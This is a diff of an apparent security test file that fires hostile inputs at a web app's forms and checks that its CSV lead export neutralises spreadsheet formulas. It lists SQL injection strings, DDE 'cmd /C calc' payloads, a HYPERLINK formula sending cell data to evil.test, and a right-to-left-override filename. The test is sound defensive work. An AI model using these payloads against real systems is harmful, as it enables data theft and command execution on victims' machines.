@@ -52,7 +52,7 @@ const sqlPayloads = [
 	"%' AND 1=0 UNION SELECT NULL, version() --",
 	"\\'; COPY leads TO '/tmp/x'; --",
 ]
-const formulaPayloads = ['=HYPERLINK("http://evil.test?x="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1']
+const formulaPayloads = ['=HYPERLINK("http://evil.test?x="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', ' =1+1', '\n=1+1']
 const unicodePayloads = [
 	'\u202Egnp.exe', // right-to-left override
 	'مرحبا بالعالم', 'ਸਤਿ ਸ੍ਰੀ ਅਕਾਲ', '😀👩‍👩‍👧‍👦🇮🇳', 'Z̴̡̢̛̤͔͎̓̈́a̸l̵g̶o̷', '\u200B\u200C\u200D\uFEFF',
@@ -279,11 +279,11 @@ test('5,000+ malformed and hostile requests to every form and API: no 5xx, no st
 	const csv = await (await contexts.admin.get(`/admin/leads.csv?q=${MARK}`)).text()
 	const rows = parseCsv(csv.replace(/^\uFEFF/, ''))
 	expect(rows.length, 'the export lists the stored payloads').toBeGreaterThan(10)
-	for (const row of rows.slice(1)) for (const cell of row) expect(cell, `CSV cell ${JSON.stringify(cell.slice(0, 80))} could run as a formula`).not.toMatch(/^[=+\-@\t\r]/)
+	for (const row of rows.slice(1)) for (const cell of row) expect(cell, `CSV cell ${JSON.stringify(cell.slice(0, 80))} could run as a formula`).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/)
 	// The whole export: formula payloads were stored, and every one is neutralised by a quote.
 	const everything = parseCsv((await (await contexts.admin.get('/admin/leads.csv')).text()).replace(/^\uFEFF/, ''))
 	const cells = everything.slice(1).flat()
-	for (const cell of cells) expect(cell, `CSV cell ${JSON.stringify(cell.slice(0, 80))} could run as a formula`).not.toMatch(/^[=+\-@\t\r]/)
+	for (const cell of cells) expect(cell, `CSV cell ${JSON.stringify(cell.slice(0, 80))} could run as a formula`).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/)
 	expect(cells.filter((cell) => /^'[=+\-@\t\r]/.test(cell)).length, 'formula payloads were stored (neutralised)').toBeGreaterThan(0)
 
 	// Lead pages of stored payloads, over HTTP and in the browser (where a script would run).
